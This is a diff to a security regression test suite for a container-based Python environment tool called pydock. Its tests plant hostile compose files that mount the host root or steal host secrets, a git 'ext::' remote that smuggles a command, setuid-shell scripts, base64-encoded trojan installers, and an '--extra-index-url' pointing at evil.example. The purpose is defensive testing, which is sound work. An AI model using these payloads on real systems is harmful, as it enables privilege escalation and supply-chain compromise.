@@ -2,6 +2,7 @@
 works, and the honest use beside it must go on."""
 from __future__ import annotations
 
+import base64
 import io
 import json
 import os
@@ -15,10 +16,10 @@ import subprocess
 import tarfile
 import unittest
 from pathlib import Path
-from typing import Any, Callable, Dict, Iterator, List, Optional, Sequence, Union
+from typing import Any, Callable, Dict, List, Optional, Sequence, Union
 
 from support import ENGINE, PYTHON, ROOT, Case, Result, SharedCase, as_user, docker_groups, engine, make_wheel, pydock
-from test_compose import COMPOSE, IDLE, needs_compose, remove
+from test_compose import IDLE, needs_compose, remove
 
 PODMAN = pydock.Engine(ENGINE).podman
 BASE = "python:%s-slim" % PYTHON
@@ -61,7 +62,8 @@ class Attack(SharedCase):
         calls = [path.read_text(encoding="utf-8").split("\0")[:-1] for path in (self.base / "recorder" / "calls").glob("*.argv")]
         return [argv for argv in calls if tuple(argv[:len(first)]) == first]
 
-    def project(self, name: str, files: Optional[Dict[str, Union[str, bytes]]] = None, dockerfile: str = TEMPLATE, requirements: str = "", env: str = "dev") -> Path:
+    def project(self, name: str, files: Optional[Dict[str, Union[str, bytes]]] = None, dockerfile: str = TEMPLATE, requirements: str = "",
+            env: str = "dev") -> Path:
         """A clone with a local environment, none of which pydock wrote. The files are relative to the environment's folder."""
         folder = self.work / name
         inside = folder / ".pydock" / "envs" / env
@@ -145,9 +147,10 @@ class ComposeOfOthers(Attack):
         return self.project(name, {"docker-compose.yml": services(dep={"volumes": ["/:/host"], "command": self.touch()}), **files})
 
     def test_a_git_remote_and_a_folder_like_a_bare_repository(self) -> None:
-        config = '[core]\n\trepositoryformatversion = 0\n\tbare = true\n[protocol "ext"]\n\tallow = always\n[url "ext::touch %s #"]\n\tinsteadOf = https://x.example/\n' % str(self.marker()).replace(" ", "% ")
+        config = '[core]\n\trepositoryformatversion = 0\n\tbare = true\n[protocol "ext"]\n\tallow = always\n[url "ext::touch %s #"]\n\tinsteadOf = https://x.example/\n'
+        config %= str(self.marker()).replace(" ", "% ")
         bare = {"HEAD": "ref: refs/heads/main\n", "config": config, "objects/info/x": "", "refs/heads/x": ""}
-        text = 'include:\n  - "https://x.example/x.git"\n' + services()
+        text = services(include=["https://x.example/x.git"])
         folder = self.project("git", {**bare, ".env": "COMPOSE_EXPERIMENTAL_GIT_REMOTE=1\nCOMPOSE_EXPERIMENTAL_OCI_REMOTE=1\n", "docker-compose.yml": text})
         for name, data in bare.items():
             (folder / name).parent.mkdir(parents=True, exist_ok=True)
@@ -174,8 +177,10 @@ class ComposeOfOthers(Attack):
             "capabilities and devices": services({"cap_add": ["ALL"], "devices": ["/dev/null:/dev/x"], "security_opt": ["apparmor=unconfined"]}),
             "a variable of the host": services({"environment": {"STOLEN": "${SECRET_TOKEN}"}}),
             "a file of variables": services({"env_file": [str(secret)]}),
-            "a build context": services(dep={"build": {"context": str(self.base / "context")}, "image": self.prefix + "-stolen:latest", "pull_policy": "build"}),
-            "a volume that is a mount": services({"volumes": ["v:/v"]}, volumes={"v": {"driver": "local", "driver_opts": {"type": "none", "o": "bind", "device": "/"}}}),
+            "a build context": services(dep={"build": {"context": str(self.base / "context")}, "image": self.prefix + "-stolen:latest",
+                    "pull_policy": "build"}),
+            "a volume that is a mount": services({"volumes": ["v:/v"]}, volumes={"v": {"driver": "local", "driver_opts": {"type": "none", "o": "bind",
+                    "device": "/"}}}),
             "a secret that is a file": services({"secrets": ["s"]}, secrets={"s": {"file": str(secret)}}),
             "the engine's socket": services(dep={"volumes": ["/var/run/docker.sock:/var/run/docker.sock"]}),
             "nothing at all": services(),
@@ -188,27 +193,32 @@ class ComposeOfOthers(Attack):
 
     def test_every_way_to_start_it(self) -> None:
         folder = self.mount("ways")
-        for argv in (["run", "dev", "true"], ["-n", "run", "dev", "true"], ["--verbose", "run", "--fresh", "dev", "true"], ["run", "--root", "dev", "true"], ["shell", "dev"], ["-n", "shell", "dev"], ["start", "dev"],
+        for argv in (["run", "dev", "true"], ["-n", "run", "dev", "true"], ["--verbose", "run", "--fresh", "dev", "true"], ["run", "--root", "dev", "true"],
+                ["shell", "dev"], ["-n", "shell", "dev"], ["start", "dev"],
                      ["-n", "start", "dev"], ["activate", "--shell", "bash", "dev"], ["activate", "--persistent", "--shell", "fish", "dev"]):
             with self.subTest(argv):
                 self.refused(folder, *argv)
-        for argv in (["reset", "dev"], ["stop", "dev"], ["trust", "dev"], ["list"], ["config"], ["link", "dev", "python"], ["completion", "--words", "run", ""], ["build", "dev"], ["history", "dev"], ["lock", "--check", "dev"]):
+        for argv in (["reset", "dev"], ["stop", "dev"], ["trust", "dev"], ["list"], ["config"], ["link", "dev", "python"],
+                ["completion", "--words", "run", ""], ["build", "dev"], ["history", "dev"], ["lock", "--check", "dev"]):
             with self.subTest(argv):  # what need not fail does not ask compose either
                 self.safe(self.run_pydock(*argv, cwd=folder, timeout=TIME))
                 self.assertEqual([call for call in self.recorded("compose") if "version" not in call], [])
         self.assertEqual(self.containers(), [])
         inside = self.home / ".local" / "share" / "pydock"
         for program in inside.glob("*/bin/python"):
-            subprocess.run([str(program), "-c", "1"], cwd=folder, env=self.environ, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=TIME)
+            subprocess.run([str(program), "-c", "1"], cwd=folder, env=self.environ, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                    stderr=subprocess.DEVNULL, timeout=TIME)
         self.assertFalse(self.marker().exists())
 
     def test_an_include_that_hides(self) -> None:
         evil = services(dep={"volumes": ["/:/host"], "command": self.touch()})
         plain = services()
         texts: Dict[str, Union[str, bytes]] = {
-            "escaped": '"\\u0069nclude": ["more.yml"]\n' + plain[1:-1], "tagged": "!!str include: [more.yml]\nservices: {dev: {build: .}}\n",
-            "anchored": "x-a: &a include\n*a : [more.yml]\nservices: {dev: {build: .}}\n", "merged": "x-a: &a {include: [more.yml]}\n<<: *a\nservices: {dev: {build: .}}\n",
-            "extended": "services: {dev: {build: ., extends: {file: more.yml, service: dep}}}\n", "utf16": ("include: [more.yml]\nservices: {dev: {build: .}}\n").encode("utf-16"),
+            "escaped": '{"\\u0069nclude": ["more.yml"],' + plain[1:], "tagged": "!!str include: [more.yml]\nservices: {dev: {build: .}}\n",
+            "anchored": "x-a: &a include\n*a : [more.yml]\nservices: {dev: {build: .}}\n",
+                    "merged": "x-a: &a {include: [more.yml]}\n<<: *a\nservices: {dev: {build: .}}\n",
+            "extended": "services: {dev: {build: ., extends: {file: more.yml, service: dep}}}\n",
+                    "utf16": ("include: [more.yml]\nservices: {dev: {build: .}}\n").encode("utf-16"),
             "two documents": "services: {dev: {build: .}}\n---\ninclude: [more.yml]\n", "empty": ""}
         for number, (title, text) in enumerate(texts.items()):
             with self.subTest(title):
@@ -229,7 +239,7 @@ class ComposeOfOthers(Attack):
             "one blank": lambda: (inside / "docker-compose.yml").write_text(good + " ", encoding="utf-8"),
             ".env": lambda: (inside / ".env").write_text("COMPOSE_FILE=../../../evil.yml\n", encoding="utf-8"),
             "another file": lambda: (inside / "docker-compose.override.yml").write_text(evil, encoding="utf-8"),
-            "a file in a folder": lambda: [(inside / "conf").mkdir(), (inside / "conf" / "x.yml").write_text(evil, encoding="utf-8")],
+            "a file in a folder": lambda: in_folder(inside / "conf", evil),
             "the same time and size": lambda: same_look(inside / "docker-compose.yml", good.replace("yes", "yea")),
         }
         for title, change in changes.items():
@@ -255,18 +265,20 @@ class ComposeOfOthers(Attack):
         self.ok("start", "dev", cwd=folder)
         self.addCleanup(self.run_pydock, "stop", "--force", "dev", cwd=folder)
         self.assertIn("HONEST=yes", self.ok("run", "dev", "env", cwd=folder))
-        (folder / ".pydock" / "envs" / "dev" / "docker-compose.yml").write_text(services(dep={"volumes": ["/:/host"], "command": self.touch()}), encoding="utf-8")
+        (folder / ".pydock" / "envs" / "dev" / "docker-compose.yml").write_text(services(dep={"volumes": ["/:/host"], "command": self.touch()}),
+                encoding="utf-8")
         self.record()
-        for argv in (["run", "dev", "true"], ["reset", "dev"], ["activate", "--shell", "sh", "dev"], ["install", "dev", str(make_wheel(self.base / "dist", "plain"))], ["stop", "dev"]):
+        for argv in (["run", "dev", "true"], ["reset", "dev"], ["activate", "--shell", "sh", "dev"],
+                ["install", "dev", str(make_wheel(self.base / "dist", "plain"))], ["stop", "dev"]):
             with self.subTest(argv):
                 self.safe(self.run_pydock(*argv, cwd=folder))
                 self.assertEqual([call for call in self.recorded("compose") if "version" not in call], [])
 
     def test_trust_asks_and_can_be_taken_back(self) -> None:
         folder = self.mount("asks")
-        for options in ({}, {"input": ""}, {"input": "n\n"}, {"input": "\n"}, {"input": "nonsense\n"}):
-            with self.subTest(options):
-                self.safe(self.run_pydock("trust", "dev", cwd=folder, **options))
+        for answer in (None, "", "n\n", "\n", "nonsense\n"):
+            with self.subTest(answer):
+                self.safe(self.run_pydock("trust", "dev", cwd=folder, input=answer))
                 self.refused(folder, "run", "dev", "true")
         shown = self.terminal("trust", "dev", answer="n\n", cwd=folder)
         self.assertIn("/:/host", shown.out)
@@ -328,7 +340,8 @@ class ComposeOfOthers(Attack):
         for number, extra in enumerate(("docker-compose.yml", ".env")):
             bundle = self.work / "bundle.tar"
             with tarfile.open(bundle, "w") as archive:
-                for name, text in (("dev/dockerfile", TEMPLATE), ("dev/requirements.txt", ""), ("dev/" + extra, services(dep={"volumes": ["/:/host"], "command": self.touch()}))):
+                for name, text in (("dev/dockerfile", TEMPLATE), ("dev/requirements.txt", ""),
+                        ("dev/" + extra, services(dep={"volumes": ["/:/host"], "command": self.touch()}))):
                     member = tarfile.TarInfo(name)
                     member.size = len(text.encode())
                     archive.addfile(member, io.BytesIO(text.encode()))
@@ -340,6 +353,30 @@ class ComposeOfOthers(Attack):
                 continue
             self.refused(self.work, "--global", "run", name, "true")
             self.refused(self.work, "--global", "-n", "start", name)
+
+    def test_a_bundle_stays_not_allowed_where_the_data_folder_is_another(self) -> None:
+        """As under cron, or once somebody has removed what can be made again."""
+        bundle = self.work / "other.tar"
+        with tarfile.open(bundle, "w") as archive:
+            for name, text in (("dev/dockerfile", TEMPLATE), ("dev/requirements.txt", ""), ("dev/docker-compose.yml", services(dep={"volumes": ["/:/host"],
+                    "command": self.touch()}))):
+                member = tarfile.TarInfo(name)
+                member.size = len(text.encode())
+                archive.addfile(member, io.BytesIO(text.encode()))
+        self.ok("--global", "create", "dev", "--from", str(bundle))
+        self.refused(self.work, "--global", "run", "dev", "true", environ={"XDG_DATA_HOME": str(self.base / "other data")})
+
+    def test_a_file_of_the_names_that_pydock_keeps_beside_it(self) -> None:
+        """What an allowed file includes of its own folder is watched, whatever its name is, but dockerfile, requirements.txt and wheels."""
+        evil = services(dep={"volumes": ["/:/host"], "command": self.touch()})
+        for number, name in enumerate(("dockerfile.orig", "requirements.txt.orig", "requirements.txt.orig1", ".dockerfile.new", ".requirements.txt.new",
+                "wheels/more.yml")):
+            with self.subTest(name):
+                folder = self.project("beside%d" % number, {"docker-compose.yml": services(include=[name]), name: "# nothing\n"})
+                self.trusted(folder)
+                self.record()
+                (folder / ".pydock" / "envs" / "dev" / name).write_text(evil.replace('"dev"', '"other"'), encoding="utf-8")
+                self.refused(folder, "run", "dev", "true", names="")
 
     def test_a_clone_of_one_that_is_not_allowed(self) -> None:
         folder = self.mount("cloned")
@@ -365,13 +402,18 @@ class ComposeOfOthers(Attack):
 class ComposeTricks(Attack):
     def test_other_names_of_a_compose_file_mean_nothing(self) -> None:
         evil = services(dep={"volumes": ["/:/host"], "command": ["touch", "/host" + str(self.marker())]})
-        folder = self.project("names", {name: evil for name in ("compose.yaml", "compose.yml", "docker-compose.yaml", "docker-compose.override.yml")})
+        folder = self.project("names", dict.fromkeys(("compose.yaml", "compose.yml", "docker-compose.yaml", "docker-compose.override.yml"), evil))
         for name in ("docker-compose.yml", "compose.yaml", ".env"):
             (folder / name).write_text(evil if name != ".env" else "COMPOSE_FILE=compose.yaml\nDOCKER_HOST=tcp://127.0.0.1:1\n", encoding="utf-8")
         self.record()
         self.assertEqual(self.ok("run", "dev", "echo", "on", cwd=folder), "on\n")
         self.assertEqual(self.recorded("compose"), [])
         self.safe()
+
+
+def in_folder(folder: Path, text: str) -> None:
+    folder.mkdir()
+    (folder / "x.yml").write_text(text, encoding="utf-8")
 
 
 def same_look(path: Path, text: str) -> None:
@@ -392,18 +434,19 @@ class Shipped(Attack):
     """A package that ships programs of the system's names, as scripts that note who ran them."""
 
     hits: Path
+    me: Dict[str, Any]
 
     @classmethod
     def prepare(cls, case: Case) -> None:
         assert isinstance(case, Shipped)
-        cls.me: Dict[str, Any] = {}
+        cls.me = {}
         if not PODMAN:
             case.give_to(OTHER)
             cls.me = {"preexec_fn": as_user(OTHER, OTHER, docker_groups())}
         cls.hits = case.work / "hits"
         script = "#!/bin/sh\necho %%s $(/usr/bin/id -u) >>%s 2>/dev/null || echo %%s >>/opt/venv/hits\nexit 7\n" % shlex.quote(str(cls.hits))
-        names = [*SHADOWED, "python3", "python", "pip"]
-        make_wheel(case.base / "dist", "evil", files={"evil-1.0.data/scripts/" + name: script % (name, name) for name in names}, scripts=["evil-tool = evil:main"])
+        make_wheel(case.base / "dist", "evil", files={"evil-1.0.data/scripts/" + name: script % (name, name) for name in SHADOWED},
+                scripts=["evil-tool = evil:main"])
         make_wheel(case.base / "dist", "plain", scripts=["plain-tool = plain:main"], files={"plain.py": "def main():\n    print('plain')\n"})
         case.ok("create", "r", **cls.me)
         case.ok("install", "r", str(case.base / "dist" / "evil-1.0-py3-none-any.whl"), **cls.me)
@@ -431,7 +474,7 @@ class Shipped(Attack):
         self.assertEqual(self.run_pydock("run", "r", "/bin/sh", "-c", "exit 5", **self.me).status, 5)
         self.ok("reset", "r", **self.me)
         self.ok("install", "r", wheel, **self.me)
-        self.assertEqual(self.ok("run", "r", "plain-tool", **self.me) if not self.has_python() else "plain\n", "plain\n")
+        self.assertEqual(self.ok("run", "r", "plain-tool", **self.me), "plain\n")
         self.ok("uninstall", "r", "plain", **self.me)
         self.ok("stop", "r", **self.me)
         self.assertEqual(self.containers(), [])
@@ -439,10 +482,6 @@ class Shipped(Attack):
         self.ok("build", "r", **self.me)
         self.unhurt()
         self.assertNotIn("hits", self.ok("run", "r", "/bin/ls", "/opt/venv", **self.me).split())
-
-    def has_python(self) -> bool:
-        """Whether the package's `python` is the one that its own scripts name."""
-        return True
 
     def test_a_signal_reaches_a_started_program(self) -> None:
         self.ok("start", "r", **self.me)
@@ -460,7 +499,8 @@ class Shipped(Attack):
 
     def test_activation_and_links(self) -> None:
         shell = "eval \"$(%s activate --shell sh r)\" || exit 1; evil-tool; plain=$?; command -v sleep grep id; deactivate" % shlex.join(self.program)
-        done = subprocess.run(["/bin/sh", "-c", shell], cwd=self.work, env=self.environ, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, timeout=120, **self.me)
+        done = subprocess.run(["/bin/sh", "-c", shell], cwd=self.work, env=self.environ, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+                stderr=subprocess.STDOUT, text=True, timeout=120, **self.me)
         self.assertEqual(done.returncode, 0, done.stdout)
         folder = next((self.home / ".local" / "share" / "pydock").glob("*-r/bin"))
         self.assertEqual({"sh", "env", "bash"} & set(os.listdir(folder)), set())
@@ -471,8 +511,10 @@ class Shipped(Attack):
         """The attack that was done: `pydock stop` ran the container's `sh` as root, which left a setuid shell in the project."""
         self.ok("create", "w", **self.me)
         self.ok("start", "w", **self.me)
-        script = "#!/bin/sh\n/bin/cp /bin/sh %s; /bin/chmod 4755 %s; /usr/bin/touch %s\nexec /bin/sh \"$@\"\n" % (*[shlex.quote(str(self.work / "rootsh"))] * 2, shlex.quote(str(self.hits)))
-        code = "import os, sys\nfor name in sys.argv[2:]:\n    path = '/opt/venv/bin/' + name\n    if os.path.lexists(path): os.unlink(path)\n    open(path, 'w').write(sys.argv[1]); os.chmod(path, 0o755)"
+        shell = shlex.quote(str(self.work / "rootsh"))
+        script = "#!/bin/sh\n/bin/cp /bin/sh %s; /bin/chmod 4755 %s; /usr/bin/touch %s\nexec /bin/sh \"$@\"\n" % (shell, shell, shlex.quote(str(self.hits)))
+        code = "import os, sys\nfor name in sys.argv[2:]:\n    path = '/opt/venv/bin/' + name\n    if os.path.lexists(path): os.unlink(path)\n"
+        code += "    open(path, 'w').write(sys.argv[1]); os.chmod(path, 0o755)"
         self.ok("run", "w", "python3", "-Ic", code, script, *SHADOWED, "python3", "python", **self.me)
         process = self.start("run", "w", "/bin/sh", "-c", ": >going; exec /bin/sleep 100", **self.me)
         self.wait_for((self.work / "going").exists)
@@ -488,16 +530,63 @@ class Shipped(Attack):
         self.unhurt()
 
 
-class NoNewPrivileges(Attack):
+PLAIN = "FROM %s\nRUN python3 -m venv /opt/venv && mkdir -p /opt/pydock\nENV PATH=/opt/venv/bin:$PATH\nCOPY dockerfile requirements.txt /opt/pydock/\n" % BASE
+
+
+class RootsFiles(Attack):
+    """Files of root's that outlive the container, in the project's folder."""
+
+    me: Dict[str, Any]
+
     @classmethod
     def prepare(cls, case: Case) -> None:
-        cls.me: Dict[str, Any] = {}
+        cls.me = {}
+        if PODMAN:
+            raise unittest.SkipTest("the tests are root themselves on podman")
+        case.give_to(OTHER)
+        cls.me = {"preexec_fn": as_user(OTHER, OTHER, docker_groups())}
+
+    def test_a_dockerfile_whose_user_is_root(self) -> None:
+        """A clone's dockerfile says who the user inside is: that must not make a setuid shell of root's on this host."""
+        plain = PLAIN
+        dockerfiles = {"none": plain, "root": plain + "USER 0:0\n", "by name": plain + "USER root\n",
+                "the template without its arguments": TEMPLATE.replace("ARG USER_UID=1000", "ENV USER_UID=0").replace("ARG USER_GID=1000", "ENV USER_GID=0"),
+                       "an entry point": TEMPLATE.replace("USER $USER_UID:$USER_GID\n", "USER 0:0\n"), "later": TEMPLATE + "USER 0\n"}
+        script = "cp /bin/sh rootsh; chown 0:0 rootsh; chmod 4755 rootsh; mkdir -p d; cp rootsh d; exit 0"
+        for number, (title, text) in enumerate(dockerfiles.items()):
+            with self.subTest(title):
+                folder = self.project("rooted%d" % number, dockerfile=text)
+                subprocess.run(["chown", "-R", str(OTHER), str(folder)], check=True)
+                for argv in (["run", "dev", "/bin/sh", "-c", script], ["start", "dev"], ["run", "dev", "/bin/sh", "-c", script], ["stop", "--force", "dev"]):
+                    self.run_pydock(*argv, cwd=folder, **self.me)
+                roots = [path for path in folder.rglob("*") if path.lstat().st_uid == 0]
+                self.assertEqual(roots, [])
+
+    def test_a_bundle_whose_user_is_root(self) -> None:
+        bundle = self.work / "root.tar"
+        with tarfile.open(bundle, "w") as archive:
+            for name, text in (("e/dockerfile", PLAIN), ("e/requirements.txt", "")):
+                member = tarfile.TarInfo(name)
+                member.size = len(text.encode())
+                archive.addfile(member, io.BytesIO(text.encode()))
+        self.run_pydock("create", "handed", "--from", str(bundle), **self.me)
+        self.run_pydock("run", "handed", "/bin/sh", "-c", "cp /bin/sh handedsh; chmod 4755 handedsh; exit 0", **self.me)
+        self.assertEqual([path for path in self.work.glob("handedsh") if path.lstat().st_uid == 0], [])
+
+
+class NoNewPrivileges(Attack):
+    me: Dict[str, Any]
+
+    @classmethod
+    def prepare(cls, case: Case) -> None:
+        cls.me = {}
         if not PODMAN:
             case.give_to(OTHER)
             cls.me = {"preexec_fn": as_user(OTHER, OTHER, docker_groups())}
         case.ok("create", "e", **cls.me)
         text = (case.folder("e") / "dockerfile").read_text(encoding="utf-8")
-        (case.folder("e") / "dockerfile").write_text(text.replace("\nUSER $USER_UID", "\nRUN cp /bin/sh /opt/rootsh && chmod 4755 /opt/rootsh\nUSER $USER_UID"), encoding="utf-8")
+        (case.folder("e") / "dockerfile").write_text(text.replace("\nUSER $USER_UID",
+                "\nRUN cp /bin/sh /opt/rootsh && chmod 4755 /opt/rootsh\nUSER $USER_UID"), encoding="utf-8")
         case.ok("build", "e", **cls.me)
 
     LOOK = ("grep", "NoNewPrivs", "/proc/self/status")
@@ -530,7 +619,8 @@ class NoNewPrivileges(Attack):
         self.assertEqual(self.flag(self.run_pydock("shell", "e", input=" ".join(self.LOOK) + "\n", **me).out), "1")
         self.ok("activate", "--shell", "sh", "e", **me)
         program = next((self.home / ".local" / "share" / "pydock").glob("*-e/bin/python3"))
-        out = subprocess.run([str(program), "-c", "print(open('/proc/self/status').read())"], cwd=self.work, env=self.environ, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True, timeout=TIME, **me).stdout
+        out = subprocess.run([str(program), "-c", "print(open('/proc/self/status').read())"], cwd=self.work, env=self.environ, stdin=subprocess.DEVNULL,
+                stdout=subprocess.PIPE, text=True, timeout=TIME, **me).stdout
         self.assertEqual(self.flag(out), "1", out)
 
     @needs_compose
@@ -542,7 +632,8 @@ class NoNewPrivileges(Attack):
         self.assertEqual(self.flag(self.ok("run", "c", *self.LOOK, **self.me)), "1")
         self.ok("stop", "c", **self.me)
         path = self.folder("c") / "docker-compose.yml"
-        path.write_text(path.read_text(encoding="utf-8").replace("    init: true\n", "    init: true\n    security_opt: [no-new-privileges=false]\n"), encoding="utf-8")
+        path.write_text(path.read_text(encoding="utf-8").replace("    init: true\n", "    init: true\n    security_opt: [no-new-privileges=false]\n"),
+                encoding="utf-8")
         out = self.run_pydock("run", "c", *self.LOOK, **self.me)  # of the user's own hand, or refused; never silently less for others
         self.assertIn(out.status, (0, 1), out)
 
@@ -564,6 +655,14 @@ for path in ("/cache/bin/uv", "/cache/uv/bin/uv", "/cache/uv/uv", "/cache/bin/pi
     except OSError:
         pass
 """ % FAKE_UV
+WRITER = """
+try:
+    os.system("mount -o remount,rw /uv")
+    open("/uv/PWNED", "w").close()
+    open("/uv/bin/uv", "a").write("PWNED")
+except OSError:
+    pass
+"""
 BACKEND = PLANT + """
 import zipfile
 def build_wheel(folder, config_settings=None, metadata_directory=None):
@@ -580,12 +679,19 @@ def build_sdist(folder, config_settings=None):
 """
 
 
+PYPROJECT = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "planter"\nversion = "1.0"\n'
+
+
+def encoded(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
 class Installer(Attack):
     @classmethod
     def prepare(cls, case: Case) -> None:
         source = case.base / "planter"
         source.mkdir()
-        (source / "pyproject.toml").write_text('[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "planter"\nversion = "1.0"\n', encoding="utf-8")
+        (source / "pyproject.toml").write_text(PYPROJECT, encoding="utf-8")
         (source / "backend.py").write_text(BACKEND, encoding="utf-8")
         make_wheel(case.base / "dist", "plain")
         case.ok("create", "clean")
@@ -593,10 +699,12 @@ class Installer(Attack):
 
     def clean_up_caches(self) -> None:
         """What was planted goes from the volume that others use."""
-        engine("run", "--rm", "--pull", "never", "-v", pydock.CACHE + ":/cache", BASE, "sh", "-c", "for f in /cache/bin/uv /cache/uv/bin/uv /cache/uv/uv /cache/bin/pip; do grep -q PWNED $f && rm -f $f; done", check=False)
+        engine("run", "--rm", "--pull", "never", "-v", pydock.CACHE + ":/cache", BASE, "sh", "-c",
+                "for f in /cache/bin/uv /cache/uv/bin/uv /cache/uv/uv /cache/bin/pip; do grep -q PWNED $f && rm -f $f; done", check=False)
 
     def unharmed(self, name: str, **options: Any) -> None:
-        found = self.ok("run", name, "/bin/sh", "-c", "cat /opt/venv/PWNED 2>/dev/null; /opt/venv/bin/python3 -c 'import plain; print(plain.version)'", **options)
+        found = self.ok("run", name, "/bin/sh", "-c", "cat /opt/venv/PWNED 2>/dev/null; /opt/venv/bin/python3 -c 'import plain; print(plain.version)'",
+                **options)
         self.assertEqual(found, "1.0\n")
 
     def test_a_package_that_replaces_it_while_it_is_installed(self) -> None:
@@ -606,22 +714,24 @@ class Installer(Attack):
         self.unharmed("clean")
         self.ok("build", "clean")
         self.unharmed("clean")
-        mine = sorted((self.home / ".local" / "share" / "pydock" / "uv").rglob("uv")) if (self.home / ".local" / "share" / "pydock" / "uv").exists() else []
-        for path in mine:
-            self.assertNotIn(b"PWNED", path.read_bytes() if path.is_file() else b"")
 
     def test_it_is_mounted_where_nothing_can_write(self) -> None:
         source = self.base / "writer"
         shutil.copytree(self.base / "planter", source)
-        (source / "backend.py").write_text((BACKEND + "\ntry:\n    open('/uv/bin/uv', 'a').write('PWNED')\n    os.system('mount -o remount,rw /uv')\n    open('/uv/PWNED', 'w').close()\nexcept OSError:\n    pass\n")
-                                           .replace("planter-1.0", "writer-1.0").replace("Name: planter", "Name: writer"), encoding="utf-8")
+        (source / "backend.py").write_text((BACKEND + WRITER).replace("planter-1.0", "writer-1.0").replace("Name: planter", "Name: writer"), encoding="utf-8")
         (source / "pyproject.toml").write_text((source / "pyproject.toml").read_text(encoding="utf-8").replace('"planter"', '"writer"'), encoding="utf-8")
         self.addCleanup(self.clean_up_caches)
         self.ok("create", "writes")
+        uv = self.home / ".local" / "share" / "pydock" / "uv"
+        shared = uv.resolve()
+        if uv.is_symlink():  # which all tests share: not to be risked
+            uv.unlink()
+            shutil.copytree(shared, uv)
         self.ok("install", "writes", str(source))
-        for path in (self.home / ".local" / "share" / "pydock").rglob("*"):
-            if path.is_file() and "uv" in path.parts[len(self.home.parts):]:
-                self.assertFalse(path.name == "PWNED" or path.read_bytes().endswith(b"PWNED"), path)
+        files = [path for path in uv.rglob("*") if path.is_file()]
+        self.assertNotEqual(files, [])
+        for path in files:
+            self.assertFalse(path.name == "PWNED" or path.read_bytes().endswith(b"PWNED"), path)
 
     @unittest.skipIf(PODMAN, "podman has no BuildKit cache; there, such a dockerfile is not built at all")
     def test_a_dockerfile_that_replaces_it_in_the_cache_of_builds(self) -> None:
@@ -635,7 +745,8 @@ class Installer(Attack):
 
     @unittest.skipIf(PODMAN, "podman builds no dockerfile with stages of others before trust")
     def test_a_dockerfile_with_an_installer_of_its_own_serves_nobody_else(self) -> None:
-        evil = TEMPLATE.replace("FROM base AS installer", "FROM base AS installer\nRUN mkdir -p /uv/bin && echo %s | base64 -d >/uv/bin/uv && chmod 755 /uv/bin/uv" % __import__("base64").b64encode(FAKE_UV.encode()).decode())
+        step = "RUN mkdir -p /uv/bin && echo %s | base64 -d >/uv/bin/uv && chmod 755 /uv/bin/uv" % encoded(FAKE_UV)
+        evil = TEMPLATE.replace("FROM base AS installer", "FROM base AS installer\n" + step)
         self.run_pydock("build", "dev", cwd=self.project("stage", dockerfile=evil, requirements="# %s\n" % self.prefix))
         honest = self.project("honest2", requirements="./wheels/plain-1.0-py3-none-any.whl\n# %s\n" % self.prefix)
         make_wheel(honest / ".pydock" / "envs" / "dev" / "wheels", "plain", files={"unique2.txt": self.prefix})
@@ -644,14 +755,77 @@ class Installer(Attack):
 
     def test_a_base_image_of_a_project_does_not_fetch_it(self) -> None:
         tag = self.prefix + "-base:1"
-        engine("build", "-q", "-t", tag, "-", input="FROM %s\nRUN printf '#!/bin/sh\\necho PWNED >/tmp/x; mkdir -p /tmp/uv/bin; printf \"#!/bin/sh\\\\necho PWNED\" >/tmp/uv/bin/uv; exit 0\\n' >/usr/local/bin/python3.evil\n" % BASE)
+        trap = "#!/bin/sh\ncase \"$*\" in *uv==*) mkdir -p /tmp/uv/bin; echo %s | base64 -d >/tmp/uv/bin/uv; exit 0 ;; esac\nexec REAL \"$@\"\n" % encoded(FAKE_UV)
+        step = 'RUN real=$(readlink -f "$(command -v python3)"); rm -f /usr/local/bin/python3; '
+        step += 'echo %s | base64 -d | sed "s#REAL#$real#" >/usr/local/bin/python3; chmod 755 /usr/local/bin/python3' % encoded(trap)
+        engine("build", "-q", "-t", tag, "-", input="FROM %s\n%s\n" % (BASE, step))
         self.record()
-        shutil.rmtree(self.home / ".local" / "share" / "pydock" / "uv", ignore_errors=True)
+        uv = self.home / ".local" / "share" / "pydock" / "uv"
+        if uv.is_symlink():
+            uv.unlink()
+        shutil.rmtree(uv, ignore_errors=True)
         folder = self.project("base", dockerfile=TEMPLATE.replace("${REPOSITORY}" + BASE, tag))
         self.run_pydock("install", "dev", str(self.base / "dist" / "plain-1.0-py3-none-any.whl"), cwd=folder)
         fetchers = [argv for argv in self.recorded("run") if "/cache" not in " ".join(argv) and "-s" in argv[-2:] and "/bin/sh" in argv]
         self.assertEqual([argv for argv in fetchers if tag in argv or any(self.prefix in word and "tmp" not in word for word in argv)], [])
         engine("rmi", "-f", tag, check=False)
+
+
+class Definitions(Attack):
+    """A package that changes the environment's own definition from inside: what is written back to this host is pydock's."""
+
+    def test_what_a_package_writes_into_the_copy_of_the_files(self) -> None:
+        write = """import os
+for name, line in (("dockerfile", "RUN touch /EVIL"), ("requirements.txt", "--extra-index-url https://evil.example/simple"), ("requirements.txt", "# EVIL"),
+                   ("docker-compose.yml", "EVIL: 1")):
+    try:
+        with open("/opt/pydock/" + name, "a") as file:
+            file.write("\\n" + line + "\\n")
+    except OSError:
+        pass
+"""
+        make_wheel(self.base / "dist", "custom", files={"sitecustomize.py": write, "custom.pth": "import sitecustomize\n"})
+        source = self.base / "builder"
+        source.mkdir()
+        (source / "pyproject.toml").write_text(PYPROJECT, encoding="utf-8")
+        (source / "backend.py").write_text(write + BACKEND[len(PLANT):].replace("import zipfile", "import zipfile"), encoding="utf-8")
+        for installer in ("uv", "pip"):
+            name = "d" + installer
+            self.environ["PYDOCK_INSTALLER"] = installer
+            self.ok("create", name)
+            for argv in (["install", name, str(source)], ["install", name, str(self.base / "dist" / "custom-1.0-py3-none-any.whl")],
+                    ["install", name, str(make_wheel(self.base / "dist", "plain"))], ["uninstall", name, "plain"], ["lock", name],
+                         ["rollback", name], ["rollback", name, "2"], ["clone", name, name + "c"], ["build", name]):
+                with self.subTest(argv):
